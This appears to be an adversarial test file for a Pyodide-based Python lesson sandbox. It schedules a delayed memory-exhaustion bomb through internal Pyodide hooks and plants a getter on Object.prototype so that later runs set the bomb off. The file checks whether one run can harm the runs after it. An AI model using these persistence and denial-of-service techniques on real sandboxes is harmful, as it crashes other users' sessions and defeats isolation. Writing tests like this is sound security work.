# A lesson that schedules a memory bomb for 15 seconds after its run, when the learner has
# moved on: through Pyodide's `_api.scheduleCallback` (dug out of the import hook), and
# through a getter planted on `Object.prototype` that a later interpreter's start would call
# with the worker's global object. The bomb fills JavaScript memory until the tab dies. Each
# step prints whether it worked. The runs after it, for 17 seconds, must be untouched.
# expect-outcome: completed
# expect-message: planted
# resident-for: 17
import gc
import sys

BOMB_DELAY_MS = 15_000


def step(name, action):
    try:
        value = action()
    except BaseException as error:  # noqa: BLE001 - every failure is a result here.
        print(f"step {name}: no ({type(error).__name__}: {error})"[:300])
        return None
    print(f"step {name}: yes")
    return value


def core_module():
    for thing in gc.get_objects():
        if getattr(thing, "__name__", None) == "_pyodide_core":
            return thing
    raise LookupError("no _pyodide_core")


def bombs(create_proxy):
    """The bomb, and a getter that arms it; bound here, since the run clears the program's
    globals when it ends."""

    def bomb(this, *_):
        # Keeps 256 MB blocks of JavaScript memory, each written, until there is none left.
        kept = []
        while True:
            block = this.Uint8Array.new(256 << 20)
            block.fill(1)
            kept.append(block)

    def arm(this, *_):
        # Once, quietly: an error here would end the worker, and the attack with it.
        try:
            if getattr(this, "loopscopeArmed", None) is None:
                this.loopscopeArmed = True
                this.setTimeout(create_proxy(bomb, capture_this=True), BOMB_DELAY_MS)
        except BaseException:  # noqa: BLE001
            pass

    return create_proxy(bomb, capture_this=True), create_proxy(arm, capture_this=True)


create_proxy = step("reach create_proxy", lambda: core_module().create_proxy)
bomb, arm = bombs(create_proxy)
api = step(
    "reach pyodide_js through the import hook",
    lambda: sys.modules["_pyodide._importhook"].jsfinder.jsproxies["pyodide_js"],
)
step(
    f"schedule the bomb {BOMB_DELAY_MS} ms after the run through _api.scheduleCallback",
    lambda: api._api.scheduleCallback(bomb, BOMB_DELAY_MS),
)
object_prototype = step(
    "reach Object.prototype from the engine's sink",
    lambda: sys.modules["loopscope_engine"].rec.sink.constructor.prototype.__proto__,
)

def plant():
    object_prototype.__defineGetter__("prompt", arm)
    object_prototype.__defineSetter__("prompt", create_proxy(lambda *_: None))


step("plant a getter Object.prototype.prompt that arms the bomb", plant)
print("planted what could be planted")
